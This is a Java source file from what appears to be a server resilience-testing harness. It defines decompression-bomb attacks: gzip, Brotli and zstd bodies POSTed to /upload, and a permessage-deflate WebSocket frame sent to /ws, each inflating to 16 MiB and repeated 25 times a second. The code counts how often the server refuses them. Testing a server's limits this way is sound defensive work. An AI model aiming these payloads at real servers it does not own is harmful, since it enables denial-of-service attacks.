package app.seventv.core.attacks;

import app.seventv.core.attacks.Attacker.Attack;
import app.seventv.core.attacks.Attacker.Target;
import app.seventv.core.attacks.Attacker.Until;
import com.aayushatharva.brotli4j.Brotli4jLoader;
import com.aayushatharva.brotli4j.encoder.Encoder;
import com.github.luben.zstd.Zstd;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;

/** Small bodies and messages that grow when they are unpacked. */
@SuppressWarnings("StringConcatToTextBlock") // lines end in CR LF
final class BombAttacks {
  private static final int INFLATED_BYTES = 16 << 20;
  private static final int BOMBS_PER_SECOND = 25;

  /** Of Brotli, out of 11; zeros become small with any. */
  private static final int QUALITY = 4;

  private static final int TIMEOUT_MS = 10_000;

  private BombAttacks() {}

  static void addTo(Map<String, Attack> attacks) {
    attacks.put("gzip-bomb", (target, until) -> upload(target, until, "gzip", gzip()));
    attacks.put(
        "br-bomb",
        (target, until) -> {
          Brotli4jLoader.ensureAvailability();
          return upload(
              target,
              until,
              "br",
              Encoder.compress(
                  new byte[INFLATED_BYTES], new Encoder.Parameters().setQuality(QUALITY)));
        });
    attacks.put(
        "zstd-bomb",
        (target, until) -> upload(target, until, "zstd", Zstd.compress(new byte[INFLATED_BYTES])));
    attacks.put("websocket-bomb", BombAttacks::message);
  }

  private static byte[] gzip() throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
      gzip.write(new byte[INFLATED_BYTES]);
    }
    return bytes.toByteArray();
  }

  private static Socket connect(InetSocketAddress server) throws IOException {
    Socket socket = new Socket(server.getAddress(), server.getPort());
    socket.setSoTimeout(TIMEOUT_MS);
    return socket;
  }

  private static Map<String, Long> upload(Target target, Until until, String coding, byte[] body)
      throws Exception {
    long sent = 0;
    long refused = 0;
    while (until.pace(BOMBS_PER_SECOND)) {
      sent++;
      try (Socket socket = connect(target.plain())) {
        String head =
            "POST /upload HTTP/1.1\r\nhost: a\r\nconnection: close\r\ncontent-encoding: "
                + coding
                + "\r\ncontent-length: "
                + body.length
                + "\r\n\r\n";
        socket.getOutputStream().write(head.getBytes(StandardCharsets.US_ASCII));
        socket.getOutputStream().write(body);
        String answer =
            new String(socket.getInputStream().readNBytes(12), StandardCharsets.US_ASCII);
        refused += answer.equals("HTTP/1.1 413") ? 1 : 0;
      }
    }
    return Map.of("sent", sent, "refused", refused, "bytes", (long) body.length);
  }

  /** A masked text message with RSV1 set (RFC 7692 §6); the mask is zero. */
  private static byte[] compressedMessage() {
    Deflater deflater = new Deflater(9, true);
    byte[] text = new byte[INFLATED_BYTES];
    java.util.Arrays.fill(text, (byte) 'a');
    deflater.setInput(text);
    byte[] deflated = new byte[INFLATED_BYTES];
    int length = deflater.deflate(deflated, 0, deflated.length, Deflater.SYNC_FLUSH) - 4;
    deflater.end();
    ByteBuffer frame = ByteBuffer.allocate(length + 14).put((byte) 0xc1);
    if (length <= 0xffff) { // the shortest form is the only one (RFC 6455 §5.2)
      frame.put((byte) 0xfe).putShort((short) length);
    } else {
      frame.put((byte) 0xff).putLong(length);
    }
    frame.putInt(0).put(deflated, 0, length);
    return java.util.Arrays.copyOf(frame.array(), frame.position());
  }

  private static Map<String, Long> message(Target target, Until until) throws Exception {
    byte[] frame = compressedMessage();
    long sent = 0;
    long refused = 0;
    long code = -1;
    while (until.pace(BOMBS_PER_SECOND)) {
      sent++;
      try (Socket socket = connect(target.plain())) {
        socket
            .getOutputStream()
            .write(
                String.join(
                        "\r\n",
                        "GET /ws HTTP/1.1",
                        "host: a",
                        "upgrade: websocket",
                        "connection: upgrade",
                        "sec-websocket-version: 13",
                        "sec-websocket-extensions: permessage-deflate",
                        "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==",
                        "\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
        StringBuilder head = new StringBuilder();
        while (head.indexOf("\r\n\r\n") < 0) {
          head.append((char) socket.getInputStream().read());
        }
        if (head.indexOf("permessage-deflate") < 0) {
          throw new IOException("compression is not offered");
        }
        try {
          socket.getOutputStream().write(frame);
          byte[] close = socket.getInputStream().readNBytes(4);
          code = close.length < 4 ? 0 : ((close[2] & 0xff) << 8) | (close[3] & 0xff);
          refused += close.length == 4 && close[0] == (byte) 0x88 && code == 1009 ? 1 : 0;
        } catch (IOException reset) {
          refused++; // the close frame was lost to what was still being sent
        }
      }
    }
    return Map.of("sent", sent, "refused", refused, "bytes", (long) frame.length, "code", code);
  }
}
